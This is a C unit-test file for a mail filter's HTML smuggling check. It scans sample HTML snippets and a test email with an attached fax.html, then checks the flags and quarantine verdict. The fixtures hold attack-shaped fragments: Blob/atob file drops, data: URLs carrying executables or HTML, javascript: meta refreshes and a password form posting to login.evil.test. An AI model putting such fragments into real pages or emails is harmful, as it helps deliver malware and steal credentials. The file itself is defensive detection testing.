/* HTML smuggling and traps on hand-written pages (Blob downloads, saved
 * blobs, base64 runs in and out of scripts, data: URLs, meta refresh,
 * truncation), and the html_smuggle check on bodies and attachments. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "check_fixture.h"
#include "checks/html_smuggle.h"
#include "core/err.h"
#include "files/smuggle.h"
#include "mime/attach.h"
#include "mime/html.h"

static const char *const flag_names[] = {
	"blob", "decode", "save", "objurl", "download", "click", "b64", "submit", "data",
	"refresh",
};

static void
smuggle_summary(const struct smuggle_report *r, char *out, size_t outlen)
{
	size_t n = 0;

	out[0] = '\0';
	for (unsigned b = 0; b < sizeof(flag_names) / sizeof(flag_names[0]); b++)
		if (r->flags & (1u << b))
			n += (size_t)snprintf(out + n, outlen - n, "%s ", flag_names[b]);
	if (r->data_type[0] != '\0')
		n += (size_t)snprintf(out + n, outlen - n, "type=%s ", r->data_type);
	if (r->refresh[0] != '\0')
		n += (size_t)snprintf(out + n, outlen - n, "to=%s ", r->refresh);
	n += (size_t)snprintf(out + n, outlen - n, "%s",
	    smuggle_is_smuggling(r) ? "SMUGGLING" : "");
	if (n > 0 && out[n - 1] == ' ')
		out[n - 1] = '\0';
}

static void
test_smuggle_scan(void **state)
{
	static const struct {
		const char	*in;
		const char	*want;
	} cases[] = {
		{ "<p>Hello</p>", "" },
		{ "<script>var b = new Blob([new Uint8Array(atob(x))]); var a = "
		  "document.createElement('a'); a.href = URL.createObjectURL(b); "
		  "a.download = 'x.iso'; a.click();</script>",
		  "blob decode objurl download click SMUGGLING" },
		{ "<script>navigator.msSaveOrOpenBlob(new Blob([atob(d)]), 'a.zip')</script>",
		  "blob decode save SMUGGLING" },
		/* a Blob without decoded bytes, or decoded bytes never offered: no */
		{ "<script>var b = new Blob(['hi']); a.click();</script>", "blob click" },
		{ "<script>var s = atob(x); a.click();</script>", "decode click" },
		{ "<a href=\"x.pdf\" download>get</a>", "download" },
		{ "<form id=f><input type=password></form><script>f.submit()</script>", "submit" },
		{ "<a href=\"DATA:Application/X-MSDownload;base64,TVqQ\">x</a>",
		  "data type=application/x-msdownload" },
		{ "<iframe src='data:text/html,<script>alert(1)</script>'>",
		  "data type=text/html" },
		{ "<img src=\"data:image/png;base64,iVBOR\"><style>src: url(data:application/"
		  "font-woff;base64,d09G)</style>", "" },
		{ "<META HTTP-EQUIV=\"Refresh\" CONTENT=\"0; URL = 'javascript:alert(1)'\">",
		  "refresh to=javascript:" },
		{ "<meta http-equiv=refresh content=\"0;url=data:text/plain,hi\">",
		  "refresh to=data:" },
		{ "<meta http-equiv=refresh content=\"0;url=https://example.org/\">", "" },
		/* truncated */
		{ "<script>new Blob(", "blob" },
		{ "<script", "" },
		{ "<meta http-equiv=refresh content=0;url=data:", "refresh to=data:" },
		{ "data:", "" },
		{ "", "" },
	};
	struct smuggle_limits lim;
	struct smuggle_report r;
	char got[256];

	smuggle_limits_default(&lim);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		smuggle_scan(cases[i].in, strlen(cases[i].in), &lim, &r);
		smuggle_summary(&r, got, sizeof(got));
		if (strcmp(got, cases[i].want) != 0)
			fail_msg("case %zu: got \"%s\", want \"%s\"", i, got, cases[i].want);
	}
}

/* A base64 run counts in a script, not in an image; max_input cuts. */
static void
test_smuggle_base64(void **state)
{
	size_t run = 5000, n;
	char *buf = malloc(run + 64);
	struct smuggle_limits lim;
	struct smuggle_report r;

	assert_non_null(buf);
	smuggle_limits_default(&lim);
	n = (size_t)sprintf(buf, "<script>var d='");
	memset(buf + n, 'A', run);
	n += run;
	n += (size_t)sprintf(buf + n, "';</script>");
	smuggle_scan(buf, n, &lim, &r);
	if (r.longest_base64 != run || r.flags != SMUG_BIG_BASE64)
		fail_msg("script: got run %zu flags %#x, want %zu with b64", r.longest_base64,
		    r.flags, run);
	memcpy(buf, "<img   ", 7);
	smuggle_scan(buf, n, &lim, &r);
	if (r.longest_base64 != 0 || r.flags != 0)
		fail_msg("image: got run %zu flags %#x, want 0 0", r.longest_base64, r.flags);
	lim.max_input = 100;
	memcpy(buf, "<script", 7);
	smuggle_scan(buf, n, &lim, &r);
	if (r.longest_base64 >= 100 || r.flags != 0)
		fail_msg("cut: got run %zu flags %#x, want < 100 and 0", r.longest_base64, r.flags);
	free(buf);
}

/* The check on a body and on an attachment named .html (declared
 * octet-stream, so the MIME layer did not analyse its HTML). */
static void
test_check_html_smuggle(void **state)
{
	static const char body[] = "<form action=\"https://login.evil.test/p\" method=post>"
	    "<input type=password name=p></form><form action=\"https://www.example.org/x\">"
	    "<input type=password></form><script>document.forms[0].submit()</script>";
	static const char page[] = "<script>var b = new Blob([atob(x)]); navigator."
	    "msSaveOrOpenBlob(b, 'a.iso');</script><a href='data:text/html;base64,PGh0'>x</a>";
	struct mime_header from = { .name = { (const uint8_t *)"From", 4 },
	    .value = "Alice <alice@Example.org>" };
	struct mime_attachment att = { .name = "fax.html", .extension = "html" };
	struct mime_part p[3] = {
		{ .type = "multipart", .subtype = "mixed", .headers = &from, .nheaders = 1 },
		{ .index = 1, .type = "text", .subtype = "html", .text = body,
		  .text_len = sizeof(body) - 1 },
		{ .index = 2, .type = "application", .subtype = "octet-stream",
		  .filename = "fax.html", .is_attachment = true, .att = &att },
	};
	struct mime_part *parts[] = { &p[0], &p[1], &p[2] };
	struct mime_msg msg = { .root = &p[0], .parts = parts, .nparts = 3 };
	struct html_limits hl;
	struct symbol_table st;
	struct mg_arena *a = mg_arena_new(16 * 1024, 1 << 20);

	assert_non_null(a);
	html_limits_default(&hl);
	p[1].html = html_analyze(a, body, sizeof(body) - 1, &hl);
	p[2].body = mg_slice_make(page, sizeof(page) - 1);
	check_symbols(&st, &check_html_smuggle, NULL);
	expect_symbols(&check_html_smuggle, &st, &msg, 0,
	    "HTML_CREDENTIAL_FORM=body: posts to login.evil.test "
	    "HTML_AUTOSUBMIT_FORM=body: 2 forms, 2 password fields "
	    "HTML_SMUGGLING=fax.html: Blob msSaveOrOpenBlob atob/Uint8Array "
	    "HTML_DATA_PAYLOAD=fax.html: data:text/html");
	assert_int_equal(symbol_find(&st, "HTML_SMUGGLING")->force, MG_VERDICT_QUARANTINE);
	symbol_table_clear(&st);
	mg_arena_free(a);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_smuggle_scan),
		cmocka_unit_test(test_smuggle_base64),
		cmocka_unit_test(test_check_html_smuggle),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
